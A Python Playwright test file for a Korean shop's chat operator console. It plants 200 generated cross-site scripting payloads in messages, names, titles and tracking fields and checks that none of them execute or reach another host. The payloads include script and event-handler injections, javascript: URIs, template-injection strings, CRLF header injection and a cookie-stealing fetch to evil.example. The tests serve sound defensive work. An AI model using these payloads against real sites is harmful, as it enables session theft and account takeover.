"""The console in Chromium: an operator at work, and 200 hostile texts in every field that a
visitor, a feed or a colleague can fill. Nothing executes, and no other host is asked."""

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import product
from typing import Any

import pytest
from tests.server.console.conftest import Desk, House
from tests.widget.conftest import browser

from dangol.server.console.sessions import COOKIE, PATH
from dangol.store.chat_rows import MessageRow, Sender, begun_conversation
from dangol.store.conversations import Conversations
from dangol.store.operators import Operators, Role
from dangol.store.record import open_record
from dangol.terms.instants import Instant

__all__ = ["browser"]

pytestmark = pytest.mark.browser

CALLS = ("window.ran=1", "alert(1)", "fetch('//evil.example/'+document.cookie)", "print()")
SHAPES = (
    "<script>{}</script>",
    "</textarea><script>{}</script>",
    "</title></style><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></mtext><script>{}</script></math>",
    '<div hx-get=/console/team hx-trigger=load hx-on::load="{}">',
    '<div hx-on:click="{}" data-hx-trigger="load[{}]">',
    "<form action=javascript:{}><button>x</button></form>",
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    "java\tscript:{}",
    "JaVaScRiPt:{}//",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    'https://x" onmouseover="{}',
    "http://x.example/'><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
    "${{{}}}",
    "`-{}-`",
    "';{}//",
    '";{}//',
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<\u200bscript>{}</script>",
    "\u202e<script>{}</script>",
    "＜script＞{}＜/script＞",
    "<style>@import 'javascript:{}';</style>",
    '<link rel=stylesheet href="javascript:{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<base href=//evil.example/><script src=x></script>{}",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    "<template><script>{}</script></template>",
    "]]><script>{}</script>",
    "--><script>{}</script>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "{}\r\nSet-Cookie: x=1\r\n\r\n<script>{}</script>",
    "안녕 <b onclick={}>하세요</b>",
)
PAYLOADS = [
    shape.replace("{}", call).replace("{{", "{").replace("}}", "}")
    for shape, call in product(SHAPES, CALLS)
]


@contextmanager
def tab_at(browser: Any, desk: Desk, path: str, **more: Any) -> Iterator[Any]:
    """A page in which that operator is signed in; it fails with whatever went wrong in it."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, **more)
    secret = desk.client.cookies[COOKIE]
    context.add_cookies(
        [{"name": COOKIE, "value": secret, "url": desk.server.url + PATH, "httpOnly": True}]
    )
    wrong: list[str] = []
    page = context.new_page()
    page.on("dialog", lambda dialog: (wrong.append("dialog " + dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda fault: wrong.append(f"error {fault}"))
    page.on(
        "console",
        lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None,
    )
    page.on(
        "request",
        lambda asked: (
            None if asked.url.startswith(desk.server.url) else wrong.append("asked " + asked.url)
        ),
    )
    page.goto(desk.server.url + path)
    yield page
    assert page.evaluate("window.ran") is None
    context.close()
    assert wrong == []


def hostile_parts(text: str) -> bytes:
    return json.dumps(
        [
            {"type": "text", "text": text},
            {"type": "notice", "text": text},
            {"type": "source", "title": text, "url": text},
            {"type": "product", "productId": text, "name": text, "price": text, "url": text},
            {"type": "replies", "replies": [{"id": text, "text": text}]},
            {"type": "cart_add", "productId": text, "name": text, "quantity": 1},
            {"type": "coupon", "code": text, "text": text},
            {"type": "handoff", "state": "joined", "name": text},
            {"type": text, "text": text},
        ]
    ).encode()


def hostile_facts(text: str) -> bytes:
    source = {"title": text, "url": text, "kind": text}
    return json.dumps([{"key": text, "text": text, "source": source, "values": []}]).encode()


def plant(house: House, payloads: list[str]) -> str:
    """A conversation that holds them in every part of its messages; returns its id."""
    now = Instant(time.time_ns() // 1000)
    key = f"hostile-{now}"
    record = open_record(house.shop.server.database_url)
    try:
        with record.writing() as connection:
            rows = Conversations(connection, house.shop.workspace_id)
            rows.open_conversation(
                begun_conversation(
                    key,
                    person_id=f"p{now}",
                    anonymous_id=f"anon-{now}",
                    ticket_hash="",
                    language=payloads[0][:20],
                    now=now,
                )
            )
            for number, text in enumerate(payloads):
                sender = Sender.VISITOR if number % 2 else Sender.AGENT
                message = MessageRow(
                    seq=0,
                    message_id=f"m{number}",
                    client_id=f"c{number}",
                    sender=sender,
                    operator_id="",
                    at=Instant(now + number),
                    parts=hostile_parts(text),
                    facts=hostile_facts(text),
                    skill=text,
                )
                rows.append_message(key, message)
    finally:
        record.close()
    return key


def test_there_are_200_hostile_texts() -> None:
    assert len(set(PAYLOADS)) == 200


@pytest.mark.parametrize("half", [0, 1])
def test_nothing_hostile_in_a_conversation_executes(browser: Any, house: House, half: int) -> None:
    payloads = PAYLOADS[half * 100 : half * 100 + 100]
    desk, key = house.seat(Role.OWNER), plant(house, payloads)
    with tab_at(browser, desk, f"/console/conversations/{key}") as page:
        shown = page.locator(".words").all_inner_texts()
        assert len(shown) == 200
        assert page.locator("#messages script, #messages img, #messages iframe").count() == 0
        for link in page.locator("#messages a").evaluate_all("all => all.map(a => a.href)"):
            assert link.startswith(("http://", "https://")), link
        page.locator(".facts").evaluate_all("all => all.forEach(one => { one.open = true; })")
        page.evaluate("htmx.trigger(document.body, 'dangol-messages')")
        page.wait_for_function("document.querySelectorAll('.words').length === 200")
        page.locator("#messages .bubble").nth(3).click()


def test_nothing_hostile_beside_a_conversation_executes(browser: Any, house: House) -> None:
    desk, visitor = house.seat(Role.OWNER), house.visitor("안녕하세요")
    for text in PAYLOADS[::5]:
        properties = {"title": text, "url": text, "name": text, "order_id": text, "query": text}
        goods = {"product_id": text[:90], "price": 1000, "quantity": 1, "currency": "KRW"}
        visitor.track(
            {"type": "page", "name": text, "properties": properties},
            {"type": "track", "event": text[:90], "properties": properties},
            {"type": "track", "event": "Order Completed", "properties": properties | {"total": 1}},
            {"type": "track", "event": "Product Added", "properties": properties | goods},
        )
    for text in PAYLOADS[::10]:
        desk.post("/console/replies", title=text[:80], text=text, language="ko")
    visitor.track({"type": "identify", "traits": {}}, user_id=PAYLOADS[4])
    path = f"/console/conversations/{visitor.conversation_id}"
    desk.post(path + "/join")
    with tab_at(browser, desk, path) as page:
        page.locator(".saved summary").click()
        page.locator(".saved button").first.click()
        assert page.locator("#answer").input_value() in PAYLOADS
        assert page.locator("#person script, #person img, .saved img, .lines img").count() == 0
        assert page.locator("#person .rows li").count() > 20


def test_nothing_hostile_in_a_name_or_a_title_executes(browser: Any, house: House) -> None:
    desk = house.seat(Role.OWNER, PAYLOADS[12][:90])
    for number, text in enumerate(PAYLOADS[::20]):
        house.hire(Role.OPERATOR, f"x{number}<img/src=x/onerror=alert(1)>@shop.example", text[:90])
        desk.post("/console/replies", title=text[:80], text=text, language="ko")
    record = open_record(house.shop.server.database_url)
    try:
        with record.reading() as connection:
            known = Operators(connection, house.shop.workspace_id).read_operators()
    finally:
        record.close()
    assert len(known) == 11
    for path in ("/console/team", "/console/replies", "/console/account", "/console/inbox"):
        with tab_at(browser, desk, path) as page:
            assert page.locator("main script, main img").count() == 0


def test_an_operator_hears_takes_over_and_answers_while_it_happens(
    browser: Any, house: House
) -> None:
    desk = house.seat(Role.OPERATOR)
    with tab_at(browser, desk, "/console/inbox") as page:
        assert page.locator(".line").count() == 0
        visitor = house.visitor("깨져서 왔다고요, 사람 바꿔주세요")
        page.locator(".line.urgent").wait_for()
        page.locator(".line a").click()
        page.get_by_role("button", name="내가 답하기").click()
        page.locator("#answer").fill("바로 확인해 드릴게요.")
        page.keyboard.press("Control+Enter")
        page.locator(".said.operator .words").wait_for()
        page.wait_for_function("document.getElementById('answer').value === ''")
        assert visitor.heard()[-1]["parts"][0]["text"] == "바로 확인해 드릴게요."
        page.locator("#answer").fill("쓰던 글")
        visitor.say("네, 감사합니다")
        page.get_by_text("네, 감사합니다").nth(0).wait_for()
        assert page.locator("#answer").input_value() == "쓰던 글"
        cart = {"product_id": "kn-02", "name": "울 니트", "price": 52000, "quantity": 1}
        visitor.track({"type": "track", "event": "Product Added", "properties": cart})
        page.locator("#person").get_by_text("1 × 52,000원").wait_for()
        page.get_by_role("button", name="자동 응답에 돌려주기").click()
        page.get_by_role("button", name="내가 답하기").wait_for()


def test_a_changed_password_sends_an_open_page_to_the_door(browser: Any, house: House) -> None:
    desk = house.seat(Role.OPERATOR)
    operator, record = house.people["operator"], open_record(house.shop.server.database_url)
    try:
        with tab_at(browser, desk, "/console/inbox") as page:
            page.wait_for_function("performance.getEntriesByType('resource').length > 2")
            with record.writing() as connection:
                rows = Operators(connection, house.shop.workspace_id)
                rows.set_disabled(operator.operator_id, is_disabled=True, now=operator.created_at)
            page.wait_for_url("**/console/sign-in", timeout=30_000)
    finally:
        record.close()


@pytest.mark.parametrize(
    ("language", "width", "scheme"),
    [("ko", 390, "light"), ("ko", 1280, "dark"), ("ja", 390, "dark"), ("en", 1280, "light")],
)
def test_no_page_is_wider_than_its_screen_and_axe_finds_nothing_serious(
    browser: Any, house: House, language: str, width: int, scheme: str
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    desk, visitor = house.seat(Role.OWNER), house.visitor("사람 바꿔주세요 " + "가" * 300)
    path = f"/console/conversations/{visitor.conversation_id}"
    desk.post(path + "/join")
    desk.post("/console/language", language=language, next="/console/inbox")
    for one in (path, "/console/inbox", "/console/replies", "/console/team", "/console/account"):
        with tab_at(browser, desk, one, color_scheme=scheme) as page:
            page.set_viewport_size({"width": width, "height": 800})
            page.context.add_cookies(
                [{"name": "dangol_language", "value": language, "url": desk.server.url + PATH}]
            )
            page.reload()
            assert page.evaluate("document.documentElement.lang") == language
            assert page.evaluate("document.documentElement.scrollWidth") <= width, one
            found = Axe().run(page).response["violations"]
            serious = [fault["id"] for fault in found if fault["impact"] in ("serious", "critical")]
            assert serious == [], one
